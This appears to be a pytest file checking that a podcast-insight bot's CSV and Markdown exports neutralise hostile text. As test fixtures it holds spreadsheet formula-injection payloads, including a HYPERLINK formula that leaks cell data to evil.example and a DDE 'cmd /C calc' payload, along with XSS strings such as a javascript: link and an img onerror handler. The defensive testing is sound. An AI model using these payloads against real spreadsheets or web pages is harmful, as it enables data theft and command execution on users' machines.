"""Saved-insight exports built from hostile text stay inert in spreadsheets and Markdown viewers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from markdown_it import MarkdownIt

from bot.saving.export import export_csv, export_markdown
from insights.model import Insight
from storage.saved_store import Saved

NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
#: What makes Excel, LibreOffice Calc or Google Sheets read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE_CELLS = (
    "P;=1+1",
    "P,=1+1",
    "P\t=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    '"=1+1',
    'a";=1+1',
    "a'\";,=cmd|' /C calc'!A0",
    "a; -1+1",
    "＝1+1",
)


def saved(text: str, *, podcast: str = "Chip Lines", episode: str = "Episode 1", url: str | None = "https://example.org/ep/1",
          audio_url: str | None = "https://cdn.example.org/1.mp3", topics: tuple[str, ...] = ("chips",)) -> Saved:
    insight = Insight(7, text, podcast=podcast, episode=episode, url=url, audio_url=audio_url, start_seconds=62.0,
                      published_at=NOW - timedelta(days=1), topics=topics)
    return Saved(insight, NOW)


def cells_a_spreadsheet_could_see(table: str) -> list[str]:
    """Every cell the file could split into, whichever separator a locale uses and however quotes are read."""
    cells: list[str] = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(table), delimiter=delimiter):
            cells.extend(row)
        for line in table.splitlines():
            cells.extend(line.split(delimiter))
    return cells


def starts_a_formula(cell: str) -> bool:
    return cell.lstrip(' "').startswith(FORMULA_START)


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_no_cell_of_the_csv_starts_a_formula_in_any_locale(text: str) -> None:
    table = export_csv([saved(text, podcast=text, episode=text, topics=(text,))])
    dangerous = [cell for cell in cells_a_spreadsheet_could_see(table) if starts_a_formula(cell)]
    assert dangerous == []


def test_every_csv_cell_is_quoted_so_separators_inside_text_never_split_it() -> None:
    table = export_csv([saved("P;=1+1, then more")])
    for line in table.splitlines():
        assert re.fullmatch(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*', line), line
    row = next(iter(csv.DictReader(io.StringIO(table))))
    assert row["insight"] == "P;'=1+1, then more"


def test_plain_text_is_exported_unchanged() -> None:
    text = "Well-known chips cost 5% more in 2024-05; prices rose, sharply."
    row = next(iter(csv.DictReader(io.StringIO(export_csv([saved(text)])))))
    assert row["insight"] == text and row["podcast"] == "Chip Lines"


def rendered(markdown: str) -> str:
    """HTML from a permissive renderer: raw HTML on, and any link scheme allowed."""
    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    html: str = parser.render(markdown)
    return html


def links_and_html(html: str) -> list[str]:
    return re.findall(r"<(?:a|img|script|iframe)\b[^>]*>", html)


@pytest.mark.parametrize("text", [
    "See ![x](https://tracker.example/pixel.gif) now",
    "Click [here](javascript:alert(1)) for more",
    'Raw <img src=x onerror="alert(1)"> html',
    "An autolink <https://evil.example> inside",
    "Entity &lt;script&gt; and `code` and *stars* and _under_ and \\[escaped\\]",
])
def test_markdown_of_hostile_text_topics_and_names_has_no_links_or_html_of_its_own(text: str) -> None:
    markdown = export_markdown([saved(text, podcast=text, episode=text, topics=(text, "chips"))], NOW)
    html = rendered(markdown)
    assert links_and_html(html) == [
        '<a href="https://example.org/ep/1">',
    ]


def test_a_hostile_text_still_reads_as_written() -> None:
    text = "Use [brackets] *carefully* & <b>never</b> `this`"
    html = rendered(export_markdown([saved(text)], NOW))
    assert "Use [brackets] *carefully* &amp; &lt;b&gt;never&lt;/b&gt; `this`" in html


def test_a_url_with_a_parenthesis_makes_one_link_to_the_same_place() -> None:
    url = "https://example.org/ep/1)[evil](https://evil.example"
    html = rendered(export_markdown([saved("Plain insight", url=url, audio_url=url)], NOW))
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert len(hrefs) == 1 and "evil.example" not in hrefs[0].split("/")[2]
    assert "https://evil.example" not in hrefs


def test_a_url_that_is_not_a_web_address_is_never_a_link() -> None:
    html = rendered(export_markdown([saved("Plain insight", url="javascript:alert(1)", audio_url="javascript:alert(2)")], NOW))
    assert links_and_html(html) == []
    assert "href" not in html


@pytest.mark.parametrize("text", ["- not a list", "+ not a list", "1. not a list", "2) not a list", "--- not a rule",
                                  "=== not a heading", "# not a heading"])
def test_an_insight_that_starts_like_markdown_block_syntax_stays_one_plain_quote(text: str) -> None:
    html = rendered(export_markdown([saved(text)], NOW))
    quote = html.split("<blockquote>")[1].split("</blockquote>")[0]
    assert quote.strip() == f"<p>{text}</p>"
